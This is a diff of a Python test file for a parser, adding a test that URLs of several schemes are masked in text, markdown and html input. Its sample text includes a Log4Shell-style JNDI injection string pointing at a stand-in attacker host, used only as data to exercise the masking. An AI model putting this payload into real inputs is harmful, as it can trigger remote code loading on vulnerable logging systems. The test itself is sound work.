@@ -105,6 +105,19 @@ def test_addresses_are_masked_in_each_paragraph_that_holds_one_and_only_there():
     assert "Plain opening paragraph." in doc.masked and "No address here." in doc.masked
 
 
+@pytest.mark.parametrize("fmt", ["text", "markdown", "html"])
+def test_an_address_of_any_scheme_is_masked_with_its_scheme(fmt):
+    text = ("Clone git://example.org/repo.git today. The string was ${jndi:ldap://attacker.example/a} in the logs. "
+            "Use s3://bucket/path or ssh://host.example:22, not 3://4.")
+    text = f"<p>{text}</p>" if fmt == "html" else text
+    doc = parse(text, fmt)
+    for address in ("git://example.org/repo.git", "ldap://attacker.example/a", "s3://bucket/path",
+                    "ssh://host.example:22"):
+        at = text.index(address)
+        assert doc.masked[at:at + len(address)] == OPAQUE * len(address), address
+    assert "${jndi:" in doc.masked and "} in the logs." in doc.masked and ", not 3://4." in doc.masked
+
+
 def test_front_matter_fields_are_regions_with_exact_offsets():
     md = '---\ntitle: "Zé 😀 test"\ndescription: >\n  A folded\n  description\ndate: 2025-03-01\n---\nBody.\n'
     doc = parse(md, "markdown")
